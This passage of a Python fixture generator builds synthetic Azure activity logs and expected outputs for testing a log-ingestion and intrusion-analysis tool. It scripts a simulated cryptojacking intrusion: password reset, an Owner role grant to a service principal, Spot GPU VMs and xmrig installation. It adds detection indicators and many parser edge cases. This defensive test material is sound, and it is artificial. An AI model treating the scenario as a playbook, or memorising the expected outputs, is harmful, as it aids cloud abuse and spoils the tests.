        "severity": ann["severity"],
        "operation": op["op"].lower(),
        "created_at": rfc_us(op["start"]),
        "completed_at": None if failed else rfc_us(op["end"]),
        "created_by": who.expected(),
        "correlation_id": op["corr"],
        "deployment": ann["deployment"],
        "authorized_by": None,
        "failure": None,
        "deleted_at": rfc_us(deleted["start"]) if deleted else None,
        "deletion_completed_at": rfc_us(deleted["end"]) if deleted else None,
        "deleted_by": deleted["who"].expected() if deleted else None,
        "parent": ann["parent"],
        "indicators": ann["indicators"],
        "details": ann["details"],
    }
    if failed:
        msg = op["status_msg"]
        out["failure"] = {"at": rfc_us(op["end"]), "status_code": op["final_code"],
                          "error_code": msg["error"]["code"]}
    if who is SP_ATTACKER:
        u = ra_op["who"]
        out["authorized_by"] = {
            "name": u.upn, "type": "user", "object_id": u.oid, "app_id": u.appid,
            "at": rfc_us(ra_op["start"]), "ip": u.ip, "mfa": False, "role": "Owner",
            "role_definition_id": OWNER, "role_assignment_id": ra_op["rid"].lower(),
            "scope": f"/subscriptions/{S1}", "correlation_id": ra_op["corr"]}
    return out


def build_expected(ra_op, recs, shapes):
    resources = [expected_resource(k, v, ra_op) for k, v in RESOURCES.items()]
    resources.sort(key=lambda r: (r["created_at"], r["resource_id"]))
    prep = [{"operation": o["op"].lower(), "resource_id": o["rid"].lower(),
             "subscription_id": rid_info(o["rid"])[0], "requested_at": rfc_us(o["start"]),
             "completed_at": rfc_us(o["end"]), "status": "succeeded",
             "correlation_id": o["corr"], "caller": o["who"].expected(),
             "request_body": o["req"]} for o in PREPARATION]
    orders = [r for r in recs if r["operationType"] == "create_order"]
    subscriptions = []
    for r in orders:
        e = pc_expected(r)
        subscriptions.append({
            "subscription_id": e["subscription_ids"][0], "customer_id": r["customerId"],
            "customer_name": r["customerName"], "partner_id": r["partnerId"],
            "created_by": r["userPrincipalName"], "created_at": e["time"],
            "order_id": e["order_id"], "offer_id": OFFER_AZURE_PLAN,
            "partner_record_id": r["id"]})
    phase_counts = {}
    for ev in EVENTS:
        phase_counts[ev["phase"]] = phase_counts.get(ev["phase"], 0) + 1
    return {
        "schema_version": 1,
        "generated_by": "scripts/gen_fixtures.py (do not hand-edit)",
        "scenario": "intrusion",
        "summary": (
            "A CSP partner user created on 2026-10-05 resets the password of a customer user; the "
            "user (password only, foreign IP) makes service principal P Owner of subscription S1; "
            "P registers Batch/ACI, requests GPU quota, fails once (SkuNotAvailable), deploys Spot "
            "GPU VMs in three regions, installs xmrig via CustomScript, adds a Spot GPU scale set, a "
            "Batch pool and a miner container, and deletes the compute two days later. S1 also has "
            "a legitimate GPU VM by an MFA data scientist; S2 has ordinary CPU work."),
        "conventions": {
            "ids": "resource ids and operations lower-case; GUIDs lower-case",
            "times": "RFC 3339 UTC with 6 fraction digits; every scenario time has ms precision",
            "name": "last segment of the resource id, as written in the Start record",
            "created_at": "time of the Start record of the creating operation (request time)",
            "completed_at": "time of the final Success record; null for failed operations",
            "deleted_at": "time of the Start record of the delete; deletion_completed_at its Success",
            "created_by.name": "UPN for users, app id for service principals",
            "created_by.ip": "callerIpAddress / httpRequest.clientIpAddress of the Start record",
            "created_by.mfa": "true/false from the amr claim; null when the token has no amr",
            "authorized_by": "the role assignment (Start record) that granted the creator its role; "
                             "derived from the roleAssignments/write request body PrincipalId",
            "severity": "high: mining compute, miner payloads and the privilege grant enabling "
                        "them; medium: attacker-created supporting resources and failed attempts; "
                        "low: legitimate activity",
            "indicators": "gpu-sku, spot-priority, miner-command, encoded-command, miner-image, "
                          "multi-region, privileged-role-grant, no-mfa",
            "preparation": "provider registrations and quota/service-limit requests; they are "
                           "writes but not resources, so they are not in resources[]",
            "partner_center.order_id": "lower-cased; null when the record has no OrderId",
            "partner_center.subscription_ids": "from LineItems[].SubscriptionId and customizedData "
                                               "keys SubscriptionId / SubscriptionId-N, lower-cased",
        },
        "tenant_id": TENANT,
        "partner_id": PARTNER,
        "log_analytics_workspace_id": WORKSPACE,
        "subscriptions": subscriptions,
        "principals": {
            "compromised_user": U_COMPROMISED.expected() | {"upn": U_COMPROMISED.upn},
            "attacker_service_principal": SP_ATTACKER.expected(),
            "legitimate_users": [U_DATASCI.expected() | {"upn": U_DATASCI.upn},
                                 U_DEVOPS.expected() | {"upn": U_DEVOPS.upn}],
            "partner_users": [PC_ADMIN, PC_NEWUSER],
        },
        "resources": resources,
        "preparation": prep,
        "partner_center": [pc_expected(r) for r in recs],
        "activity_records": {"total": len(EVENTS), "by_phase": phase_counts,
                             "by_subscription": {S1: sum(1 for e in EVENTS if sub_of(e) == S1),
                                                 S2: sum(1 for e in EVENTS if sub_of(e) == S2)}},
        "shapes": shapes,
    }


# --------------------------------------------------------------------------------------------
# fixtures/ingest: parser edge cases with <name>.expect.json sidecars
# --------------------------------------------------------------------------------------------

TI = gid("ingest", "tenant")
SI = gid("ingest", "subscription")
RG_I = "RG-Ingest"
VM_I = f"/subscriptions/{SI}/resourceGroups/{RG_I}/providers/Microsoft.Compute/virtualMachines/vm-ingest-01"
UPN_I = "jonas.keller@fabrikamrobotics.onmicrosoft.com"
OID_I = gid("ingest", "oid-user")
SP_APP_I = gid("ingest", "sp-app")
SP_OID_I = gid("ingest", "sp-oid")
IAT_I = epoch(at("2026-10-12T07:40:00.000"))


class Text:
    """Accumulates file content and reports (line, offset) marks where records begin."""

    def __init__(self):
        self.parts, self.nbytes, self.nlines = [], 0, 0

    def mark(self):
        return {"line": self.nlines + 1, "offset": self.nbytes}

    def add(self, s):
        b = s.encode("utf-8")
        self.parts.append(b)
        self.nbytes += len(b)
        self.nlines += s.count("\n")

    def data(self):
        return b"".join(self.parts)


def user_claims_i(*, upn=UPN_I, oid=OID_I, appid=AZURE_CLI_APP, amr="pwd", ip=IP_ATTACKER_USER,
                  tid=TI, uti="Xq3kN0m2bUeQpZr8T1vAAA", name="Jonas Keller"):
    return {"aud": "https://management.core.windows.net/", "iss": f"https://sts.windows.net/{TI}/",
            "iat": str(IAT_I), "nbf": str(IAT_I), "exp": str(IAT_I + 4412),
            "http://schemas.microsoft.com/claims/authnmethodsreferences": amr, "appid": appid,
            "appidacr": "0", "idtyp": "user", "ipaddr": ip, "name": name,
            "http://schemas.microsoft.com/identity/claims/objectidentifier": oid,
            "http://schemas.microsoft.com/identity/claims/tenantid": tid,
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name": upn,
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": upn, "uti": uti,
            "ver": "1.0"}


def sp_claims_i(*, appid=SP_APP_I, oid=SP_OID_I, appidacr="1", idtyp="app", ip=IP_ATTACKER_SP,
                uti="bN7yQ2pLkE6vZt0sW4cAAA"):
    return {"aud": "https://management.core.windows.net/", "iss": f"https://sts.windows.net/{TI}/",
            "iat": str(IAT_I), "nbf": str(IAT_I), "exp": str(IAT_I + 3599), "appid": appid,
            "appidacr": appidacr, "idtyp": idtyp, "ipaddr": ip,
            "http://schemas.microsoft.com/identity/claims/objectidentifier": oid,
            "http://schemas.microsoft.com/identity/claims/tenantid": TI, "uti": uti, "ver": "1.0"}


def caller_user_i(**over):
    c = {"upn": UPN_I, "object_id": OID_I, "app_id": AZURE_CLI_APP, "appidacr": "0",
         "idtyp": "user", "token_tenant": TI, "amr": "pwd", "mfa": "no",
         "ip_claim": IP_ATTACKER_USER, "token_id": "Xq3kN0m2bUeQpZr8T1vAAA"}
    c.update(over)
    return c


def caller_sp_i(**over):
    c = {"upn": "", "object_id": SP_OID_I, "app_id": SP_APP_I, "appidacr": "1", "idtyp": "app",
         "token_tenant": TI, "amr": "", "mfa": "unknown", "ip_claim": IP_ATTACKER_SP,
         "token_id": "bN7yQ2pLkE6vZt0sW4cAAA"}
    c.update(over)
    return c


def export_i(time, op, rid, result_type, sig, *, corr, claims=None, ip=IP_ATTACKER_SP,
             category="Administrative", properties=None, duration=0, identity=None,
             tenant=True, extra=None):
    rec = {"time": time, "resourceId": rid, "operationName": op, "category": category,
           "resultType": result_type, "resultSignature": sig}
    if duration is not None:
        rec["durationMs"] = duration
    rec["callerIpAddress"] = ip
    rec["correlationId"] = corr
    if identity is not None:
        rec["identity"] = identity
    else:
        rec["identity"] = {"authorization": {"scope": rid, "action": op},
                           "claims": claims if claims is not None else sp_claims_i()}
    rec["level"] = "Information"
    rec["location"] = "global"
    rec["properties"] = properties if properties is not None else {}
    if tenant:
        rec["tenantId"] = TI
    if extra:
        rec.update(extra)
    return rec


def event_x(time, phase, status, op, rid, *, corr="", zone_assumed=False, category="Administrative",
            caller=None, caller_ip="", status_code="", tenant_id=None, **more):
    """Expected normalized fields of one event (see fixtures/README.md for the contract)."""
    sub, rg, _, rtype, _ = rid_info(rid)
    e = {"time": time, "time_zone_assumed": zone_assumed, "phase": phase, "status": status,
         "operation": op.lower(), "resource_id_lower": rid.lower(), "resource_type": rtype.lower(),
         "subscription_id": sub, "resource_group": rg.lower(), "correlation_id": corr.lower(),
         "category": category, "caller_ip": caller_ip, "status_code": status_code}
    if caller is not None:
        e["caller"] = caller
    if tenant_id is not None:
        e["tenant_id"] = tenant_id
    e.update(more)
    return e


def write_ingest_file(name, kind, description, text, records, *, limits=None):
    """Writes the data file and its sidecar; `records` are dicts already carrying line/offset."""
    write(INGEST_DIR / name, text.data() if isinstance(text, Text) else text)
    for i, r in enumerate(records, 1):
        r["index"] = i
    ordered = []
    for r in records:
        head = {k: r[k] for k in ("index", "line", "offset") if k in r}
        ordered.append(head | {k: v for k, v in r.items() if k not in head})
    totals = {"events": sum(1 for r in records if "quarantine" not in r and "ignored" not in r),
              "quarantined": sum(1 for r in records if "quarantine" in r),
              "ignored": sum(1 for r in records if "ignored" in r)}
    sidecar = {"file": name, "source_kind": kind, "description": description}
    if limits:
        sidecar["parser_limits"] = limits
    sidecar["totals"] = totals
    # Pretty at the top level, one compact line per record: small and still diff-friendly.
    head = json.dumps(sidecar, indent=2)[:-2]
    lines = [json.dumps(r, separators=(", ", ": ")) for r in ordered]
    body = (',\n  "records": [\n' + ",\n".join("    " + x for x in lines) + "\n  ]\n}\n" if lines
            else ',\n  "records": []\n}\n')
    write(INGEST_DIR / (name + ".expect.json"), head + body)
    return name


def jsonl(items, *, final_newline=True):
    """items: (text, expectation-or-None). Returns (Text, expectations with line/offset)."""
    t, out = Text(), []
    for n, (line, exp) in enumerate(items):
        m = t.mark()
        t.add(line)
        if n + 1 < len(items) or final_newline:
            t.add("\n")
        if exp is not None:
            out.append(m | exp)
    return t, out


def write_ingest():
    names = []
    corr = lambda k: gid("ingest-corr", k)  # noqa: E731
    vm_body = {"location": "eastus", "properties": {"hardwareProfile": {"vmSize": "Standard_NC24ads_A100_v4"},
                                                    "priority": "Spot", "evictionPolicy": "Delete",
                                                    "billingProfile": {"maxPrice": -1}}}
    vm_op = "Microsoft.Compute/virtualMachines/write"

    # 1. operationName / resourceId casing, tenant-level resource id.
    c = corr("casing")
    tenant_rid = f"/TeNaNtS/{TI}/PrOvIdErS/MiCrOsOfT.SuBsCrIpTiOn/AlIaSeS/Fab-Gpu-Sandbox"
    items = [
        (cjson(export_i("2026-10-12T08:00:00.1000000Z", vm_op.upper(), VM_I.upper(), "Start",
                        "Started.", corr=c.upper(),
                        properties={"requestbody": cjson(vm_body)})),
         event_x("2026-10-12T08:00:00.100000Z", "started", "Start", vm_op, VM_I, corr=c,
                 caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP, tenant_id=TI,
                 request_body_json=vm_body)),
        (cjson(export_i("2026-10-12T08:00:01.2000000Z", vm_op.lower(), VM_I.lower(), "Accept",
                        "Accepted.Created", corr=c, duration=1100,
                        properties={"statusCode": "Created"})),
         event_x("2026-10-12T08:00:01.200000Z", "accepted", "Accept", vm_op, VM_I, corr=c,
                 caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP, status_code="Created")),
        (cjson(export_i("2026-10-12T08:04:09.3000000Z", "Microsoft.Compute/virtualMachines/Write",
                        VM_I, "Success", "Succeeded.OK", corr=c, duration=249200,
                        properties={"statusCode": "OK"})),
         event_x("2026-10-12T08:04:09.300000Z", "succeeded", "Success", vm_op, VM_I, corr=c,
                 caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP, status_code="OK")),
        (cjson(export_i("2026-10-12T08:05:00.0000000Z", "Microsoft.Subscription/aliases/write",
                        tenant_rid, "Success", "Succeeded.Created", corr=corr("alias"),
                        claims=user_claims_i(), ip=IP_ATTACKER_USER,
                        properties={"statusCode": "Created"})),
         event_x("2026-10-12T08:05:00.000000Z", "succeeded", "Success",
                 "Microsoft.Subscription/aliases/write", tenant_rid, corr=corr("alias"),
                 caller=caller_user_i(), caller_ip=IP_ATTACKER_USER, status_code="Created",
                 tenant_id=TI)),
    ]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "export-operation-casing.jsonl", "activity-export",
        "operationName UPPER/lower/Mixed (…/Write), resourceId UPPER/lower/mixed, a tenant-level "
        "/TeNaNtS/…/PrOvIdErS/ id (no subscription), correlationId upper-case", t, recs))

    # 2. durationMs string/number/absent, bodies as strings and objects, identity as a string.
    c = corr("bodies")
    run_op = "Microsoft.Compute/virtualMachines/runCommand/action"
    resp_obj = {"name": "vm-ingest-01", "id": VM_I, "type": "Microsoft.Compute/virtualMachines",
                "location": "eastus", "properties": {"hardwareProfile": {"vmSize": "Standard_NC24ads_A100_v4"},
                                                     "provisioningState": "Creating"}}
    run_body = {"commandId": "RunShellScript", "script": ["nvidia-smi -L"]}
    fail_msg = {"status": "Failed", "error": {
        "code": "QuotaExceeded",
        "message": "Operation could not be completed as it results in exceeding approved "
                   "standardNCADSA100v4Family Cores quota. Location: eastus, Current Limit: 0, "
                   "Current Usage: 0, Additional Required: 24, (Minimum) New Limit Required: 24."}}
    items = [
        (cjson(export_i("2026-10-12T08:10:00.0000000Z", vm_op.upper(), VM_I.upper(), "Start",
                        "Started.", corr=c, duration="0",
                        properties={"requestbody": cjson(vm_body), "eventCategory": "Administrative"})),
         event_x("2026-10-12T08:10:00.000000Z", "started", "Start", vm_op, VM_I, corr=c,
                 caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP, request_body_json=vm_body)),
        (cjson(export_i("2026-10-12T08:10:01.8340000Z", vm_op.upper(), VM_I.upper(), "Accept",
                        "Accepted.Created", corr=c, duration=1834,
                        properties={"statusCode": "Created", "responseBody": resp_obj})),
         event_x("2026-10-12T08:10:01.834000Z", "accepted", "Accept", vm_op, VM_I, corr=c,
                 caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP, status_code="Created",
                 response_body_json=resp_obj)),
        (cjson(export_i("2026-10-12T08:12:30.5000000Z", run_op.upper(), VM_I.upper(), "Start",
                        "Started.", corr=corr("run"), duration="95211", identity="Jonas Keller",
                        ip=IP_ATTACKER_USER, properties={"requestBody": run_body})),
         event_x("2026-10-12T08:12:30.500000Z", "started", "Start", run_op, VM_I, corr=corr("run"),
                 caller={"upn": "", "object_id": "", "app_id": ""}, caller_ip=IP_ATTACKER_USER,
                 request_body_json=run_body)),
        (cjson(export_i("2026-10-12T08:14:02.0000000Z", vm_op.upper(), VM_I.upper(), "Failure",
                        "Failed.Conflict", corr=corr("quota"), duration=None,
                        properties={"statusCode": "Conflict", "statusMessage": fail_msg})),
         event_x("2026-10-12T08:14:02.000000Z", "failed", "Failure", vm_op, VM_I,
                 corr=corr("quota"), caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP,
                 status_code="Conflict", status_message_json=fail_msg)),
    ]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "export-durations-bodies.jsonl", "activity-export",
        "durationMs as string, number and absent; requestbody as a JSON string, responseBody and "
        "requestBody (capital B) and statusMessage as objects; identity as a plain string. "
        "*_json expectations compare the parsed JSON of the kept body text", t, recs))

    # 3. Timestamp spellings.
    times = [
        ("2026-10-12T08:03:11.1234567Z", "2026-10-12T08:03:11.123456Z", False),
        ("2026-10-12T08:03:11.123456789Z", "2026-10-12T08:03:11.123456Z", False),
        ("2026-10-12T08:03:11.5+00:00", "2026-10-12T08:03:11.500000Z", False),
        ("2026-10-12T01:03:11.25-07:00", "2026-10-12T08:03:11.250000Z", False),
        ("2026-10-12T08:03:11", "2026-10-12T08:03:11.000000Z", True),
        ("2026-10-12T08:03:11.987Z", "2026-10-12T08:03:11.987000Z", False),
        ("2026-10-12T23:30:00.0000001+02:00", "2026-10-12T21:30:00.000000Z", False),
        ("2026-10-13T00:15:00.999999999-07:00", "2026-10-13T07:15:00.999999Z", False),
        ("10/12/2026 8:03:11 PM", "2026-10-12T20:03:11.000000Z", True),
    ]
    items = []
    for n, (raw, norm, assumed) in enumerate(times):
        c = corr(f"time-{n}")
        items.append((cjson(export_i(raw, vm_op.upper(), VM_I.upper(), "Start", "Started.", corr=c)),
                      event_x(norm, "started", "Start", vm_op, VM_I, corr=c, zone_assumed=assumed,
                              caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP)))
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "export-time-formats.jsonl", "activity-export",
        "7- and 9-digit fractions (truncated to µs, never rounded), +00:00 / -07:00 / +02:00 "
        "offsets, no zone (UTC assumed), 3 digits, US-locale M/D/YYYY h:mm:ss PM", t, recs))

    # 4. Portal CSV with US-locale times, BOM, CRLF, multi-line JSON cells.
    header = [c for c, _ in LA_QUERY_COLUMNS]
    header = [h + " [UTC]" if h in ("EventSubmissionTimestamp", "TimeGenerated") else h
              for h in header]
    csv_cases = [
        ("10/12/2026, 8:03:11.123 AM", "2026-10-12T08:03:11.123000Z", "Start", "started", "", None),
        ("10/12/2026, 12:00:00.000 PM", "2026-10-12T12:00:00.000000Z", "Accept", "accepted",
         "Created", None),
        ("10/13/2026, 12:05:09.007 AM", "2026-10-13T00:05:09.007000Z", "Success", "succeeded",
         "OK", None),
        ("1/2/2026, 11:59:59.999 PM", "2026-01-02T23:59:59.999000Z", "Failure", "failed",
         "Conflict", {"status": "Failed", "error": {"code": "SkuNotAvailable",
                                                    "message": "The requested size is not available."}}),
    ]
    t = Text()
    t.add("\ufeff")
    t.add(csv_text(header, []))
    recs = []
    c = corr("csv")
    for n, (shown, norm, phase, nphase, code, msg) in enumerate(csv_cases):
        claims = user_claims_i(amr="pwd,mfa") if n % 2 == 0 else sp_claims_i()
        caller = UPN_I if n % 2 == 0 else SP_APP_I
        ip = IP_DATASCI if n % 2 == 0 else IP_ATTACKER_SP
        props = {"eventCategory": "Administrative", "entity": VM_I, "message": vm_op,
                 "hierarchy": f"{TI}/{SI}"}
        if phase == "Start":
            props = {"requestbody": cjson(vm_body)} | props
        else:
            props = ({"statusCode": code, "serviceRequestId": None}
                     | ({"statusMessage": cjson(msg)} if msg else {}) | props)
        auth = {"action": vm_op, "scope": VM_I}
        vals = {"TenantId": WORKSPACE, "SourceSystem": "Azure", "CallerIpAddress": ip,
                "CategoryValue": "Administrative", "CorrelationId": c,
                "Authorization": pretty_crlf(auth), "Authorization_d": cjson(auth),
                "Claims": pretty_crlf(claims), "Claims_d": cjson(claims), "Level": "Informational",
                "OperationNameValue": vm_op.upper(), "Properties": pretty_crlf(props),
                "Properties_d": cjson(props), "Caller": caller, "EventDataId": gid("csv-ed", str(n)),
                "EventSubmissionTimestamp [UTC]": shown, "HTTPRequest": cjson({"clientIpAddress": ip}),
                "OperationId": gid("csv-op"), "ResourceGroup": RG_I.upper(),
                "ResourceProviderValue": "MICROSOFT.COMPUTE", "ActivityStatusValue": phase,
                "ActivitySubstatusValue": code, "Hierarchy": f"{TI}/{SI}",
                "TimeGenerated [UTC]": shown, "SubscriptionId": SI, "Type": "AzureActivity",
                "_ResourceId": VM_I.lower()}
        m = t.mark()
        t.add(_csv_row_text([vals.get(h, "") for h in header]))
        caller_x = (caller_user_i(amr="pwd,mfa", mfa="yes", caller=UPN_I) if n % 2 == 0
                    else caller_sp_i(caller=SP_APP_I))
        extra = {"request_body_json": vm_body} if phase == "Start" else {}
        if msg:
            extra["status_message_json"] = msg
        recs.append(m | event_x(norm, nphase, phase, vm_op, VM_I, corr=c, caller=caller_x,
                                caller_ip=ip, status_code=code, **extra))
    names.append(write_ingest_file(
        "la-csv-us-locale.csv", "activity-log-analytics",
        "Portal CSV export: UTF-8 BOM, CRLF, ' [UTC]' header suffixes (so time_zone_assumed is "
        "false), US-locale times incl. 12 AM / 12 PM, JSON cells pretty-printed over several "
        "lines with doubled quotes; legacy columns empty; offsets count the 3 BOM bytes", t, recs))

    # 5/6. Empty file; only blank lines.
    names.append(write_ingest_file("empty.jsonl", "activity-export", "zero bytes: no records, "
                                   "no quarantine", b"", []))
    names.append(write_ingest_file("blank-lines.jsonl", "activity-export",
                                   "only blank / whitespace lines (LF, CRLF, tab): no records",
                                   "\n\n   \n\t\n\r\n", []))

    # 7. Truncated last line.
    good = [export_i(f"2026-10-12T08:2{n}:00.0000000Z", vm_op.upper(), VM_I.upper(), "Start",
                     "Started.", corr=corr(f"trunc-{n}")) for n in range(3)]
    exps = [event_x(f"2026-10-12T08:2{n}:00.000000Z", "started", "Start", vm_op, VM_I,
                    corr=corr(f"trunc-{n}"), caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP)
            for n in range(3)]
    last = cjson(good[2])
    items = [(cjson(good[0]), exps[0]), (cjson(good[1]), exps[1]),
             (last[: len(last) * 3 // 5], {"quarantine": "truncated"})]
    t, recs = jsonl(items, final_newline=False)
    names.append(write_ingest_file(
        "truncated-last-line.jsonl", "activity-export",
        "two good lines, then a last line cut off mid-record with no final newline", t, recs))

    # 8. Invalid JSON between good lines.
    items = [(cjson(good[0]), exps[0]),
             ('{"time":"2026-10-12T08:20:30.0000000Z","resourceId":/SUBSCRIPTIONS/' + SI.upper()
              + ',"operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE"}',
              {"quarantine": "invalid-json"}),
             (cjson(good[1]), exps[1]),
             ("this is not json {", {"quarantine": "invalid-json"}),
             (cjson(good[2]), exps[2])]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "invalid-json-between.jsonl", "activity-export",
        "invalid JSON lines between good lines; each bad line is quarantined on its own", t, recs))

    # 9. Unparseable times.
    items = [(cjson(good[0]), exps[0]),
             (cjson(export_i("2026-02-30T08:00:00.0000000Z", vm_op.upper(), VM_I.upper(), "Start",
                             "Started.", corr=corr("bad-t1"))), {"quarantine": "bad-timestamp"}),
             (cjson(export_i("yesterday at noon", vm_op.upper(), VM_I.upper(), "Start",
                             "Started.", corr=corr("bad-t2"))), {"quarantine": "bad-timestamp"}),
             (cjson(good[1]), exps[1])]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "bad-timestamp.jsonl", "activity-export",
        "an impossible date (Feb 30) and free text in `time`", t, recs))

    # 10. Legacy log-profile categories and resultSignature-only status codes.
    c = corr("legacy")
    st_rid = f"/subscriptions/{SI}/resourceGroups/{RG_I}/providers/Microsoft.Storage/storageAccounts/stingest01"
    lk_op = "Microsoft.Storage/storageAccounts/listKeys/action"
    del_op = "Microsoft.Compute/virtualMachines/delete"
    items = [
        (cjson(export_i("2026-10-12T08:30:00.0000000Z", vm_op.upper(), VM_I.upper(), "Start",
                        "Started.", corr=c, category="Write")),
         event_x("2026-10-12T08:30:00.000000Z", "started", "Start", vm_op, VM_I, corr=c,
                 category="Write", caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP)),
        (cjson(export_i("2026-10-12T08:30:02.0000000Z", vm_op.upper(), VM_I.upper(), "Success",
                        "Succeeded.Created", corr=c, category="Write", duration=2000)),
         event_x("2026-10-12T08:30:02.000000Z", "succeeded", "Success", vm_op, VM_I, corr=c,
                 category="Write", caller=caller_sp_i(), caller_ip=IP_ATTACKER_SP,
                 status_code="Created")),
        (cjson(export_i("2026-10-12T08:31:00.0000000Z", lk_op.upper(), st_rid.upper(), "Success",
                        "Succeeded.OK", corr=corr("listkeys"), category="Action", duration=88)),
         event_x("2026-10-12T08:31:00.000000Z", "succeeded", "Success", lk_op, st_rid,
                 corr=corr("listkeys"), category="Action", caller=caller_sp_i(),
                 caller_ip=IP_ATTACKER_SP, status_code="OK")),
        (cjson(export_i("2026-10-12T08:32:00.0000000Z", del_op.upper(), VM_I.upper(), "Success",
                        "Succeeded.", corr=corr("delete"), category="Delete", duration=45000)),
         event_x("2026-10-12T08:32:00.000000Z", "succeeded", "Success", del_op, VM_I,
                 corr=corr("delete"), category="Delete", caller=caller_sp_i(),
                 caller_ip=IP_ATTACKER_SP, status_code="")),
    ]
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "legacy-categories.jsonl", "activity-export",
        "legacy log-profile categories Write/Action/Delete (kept as written); no "
        "properties.statusCode, so status_code comes from resultSignature (`Succeeded.Created` -> "
        "Created, `Succeeded.` -> empty)", t, recs))

    # 11. REST array: claims with surrounding whitespace, IPv6 and <Redacted> client IPs.
    def rest_i(time, phase, code, claims, caller, client_ip, corr_id):
        return {"authorization": {"action": vm_op, "scope": VM_I}, "caller": caller,
                "channels": "Operation", "claims": claims, "correlationId": corr_id,
                "description": "", "eventDataId": gid("rest-i", time),
                "eventName": {"value": "EndRequest", "localizedValue": "End request"},
                "category": {"value": "Administrative", "localizedValue": "Administrative"},
                "eventTimestamp": time,
                "httpRequest": {"clientRequestId": gid("rest-i-cr", time),
                                "clientIpAddress": client_ip, "method": "PUT"},
                "id": f"{VM_I}/events/{gid('rest-i', time)}/ticks/{ticks(at(time[:23]))}",
                "level": "Informational", "resourceGroupName": RG_I,
                "resourceProviderName": {"value": "Microsoft.Compute", "localizedValue": "Microsoft.Compute"},
                "resourceId": VM_I,
                "resourceType": {"value": "Microsoft.Compute/virtualMachines",
                                 "localizedValue": "Microsoft.Compute/virtualMachines"},
                "operationId": gid("rest-i-op", time),
                "operationName": {"value": vm_op, "localizedValue": "Create or Update Virtual Machine"},
                "properties": {"statusCode": code},
                "status": {"value": phase, "localizedValue": phase},
                "subStatus": {"value": code, "localizedValue": substatus_localized(code)},
                "submissionTimestamp": time, "subscriptionId": SI, "tenantId": TI}

    ws_claims = user_claims_i(upn=f"  {UPN_I} ", oid=f"  {OID_I.upper()}  ",
                              appid=AZURE_CLI_APP.upper() + " ", amr=" pwd,mfa ",
                              ip=f" {IP_ATTACKER_USER} ", tid=f" {TI} ", name=" Jonas Keller ")
    ws_claims["appidacr"] = " 0"
    ws_claims["idtyp"] = "user "
    ws_claims["uti"] = " Xq3kN0m2bUeQpZr8T1vAAA "
    sp_ws = sp_claims_i(appid=SP_APP_I.upper(), oid=f"{SP_OID_I} ", appidacr=" 1", idtyp="app ")
    docs = [
        (rest_i("2026-10-12T08:40:00.1000000Z", "Accepted", "Created", ws_claims, f" {UPN_I} ",
                "2001:db8:4a1c:20::7", corr("ws")),
         event_x("2026-10-12T08:40:00.100000Z", "accepted", "Accepted", vm_op, VM_I,
                 corr=corr("ws"), caller=caller_user_i(caller=UPN_I, amr="pwd,mfa", mfa="yes"),
                 caller_ip="2001:db8:4a1c:20::7", status_code="Created", tenant_id=TI)),
        (rest_i("2026-10-12T08:41:00.2000000Z", "Succeeded", "OK", sp_ws, SP_APP_I.upper(),
                "<Redacted>", corr("ws2")),
         event_x("2026-10-12T08:41:00.200000Z", "succeeded", "Succeeded", vm_op, VM_I,
                 corr=corr("ws2"), caller=caller_sp_i(caller=SP_APP_I.upper()),
                 caller_ip="<Redacted>", status_code="OK", tenant_id=TI)),
    ]
    t, recs = Text(), []
    t.add("[\n")
    for n, (doc, exp) in enumerate(docs):
        t.add("  ")
        recs.append(t.mark() | exp)
        t.add(json.dumps(doc, indent=2).replace("\n", "\n  "))
        t.add(",\n" if n + 1 < len(docs) else "\n")
    t.add("]\n")
    names.append(write_ingest_file(
        "rest-claims-whitespace.json", "activity-rest",
        "az CLI array; claim values and `caller` with leading/trailing spaces (normalized values "
        "are trimmed; object_id/app_id/token_tenant also lower-cased; `caller` keeps its case); "
        "httpRequest.clientIpAddress IPv6 and <Redacted> (kept as written)", t, recs))

    # 12. callerIpAddress variants in an export.
    ips = ["2001:db8:85a3::8a2e:370:7334", "<Redacted>", "::ffff:198.51.100.23"]
    items = []
    for n, ip in enumerate(ips):
        c = corr(f"ip-{n}")
        items.append((cjson(export_i(f"2026-10-12T08:5{n}:00.0000000Z", vm_op.upper(), VM_I.upper(),
                                     "Start", "Started.", corr=c, ip=ip)),
                      event_x(f"2026-10-12T08:5{n}:00.000000Z", "started", "Start", vm_op, VM_I,
                              corr=c, caller=caller_sp_i(), caller_ip=ip)))
    t, recs = jsonl(items)
    names.append(write_ingest_file(
        "export-caller-ip.jsonl", "activity-export",
        "callerIpAddress as IPv6, <Redacted> and IPv4-mapped IPv6, kept as written", t, recs))

    # 13. Entra and resource-log records mixed into an activity export: ignored, not quarantined.
    signin = {"time": "2026-10-12T07:47:58.4410000Z",
              "resourceId": f"/tenants/{TI}/providers/Microsoft.aadiam",
              "operationName": "Sign-in activity", "operationVersion": "1.0",
              "category": "SignInLogs", "tenantId": TI, "resultType": "0",
              "resultSignature": "SUCCESS", "durationMs": 0, "callerIpAddress": IP_ATTACKER_USER,
              "correlationId": gid("signin-corr"), "identity": "Jonas Keller", "Level": 4,
              "location": "NL", "properties": {
                  "id": gid("signin-id"), "createdDateTime": "2026-10-12T07:46:21.1184402+00:00",
                  "userDisplayName": "Jonas Keller", "userPrincipalName": UPN_I, "userId": OID_I,
                  "appId": AZURE_CLI_APP, "appDisplayName": "Microsoft Azure CLI",
                  "ipAddress": IP_ATTACKER_USER, "status": {"errorCode": 0},
                  "clientAppUsed": "Mobile Apps and Desktop clients",
                  "authenticationRequirement": "singleFactorAuthentication",
                  "location": {"city": "Amsterdam", "countryOrRegion": "NL"},
                  "uniqueTokenIdentifier": "Xq3kN0m2bUeQpZr8T1vAAA"}}
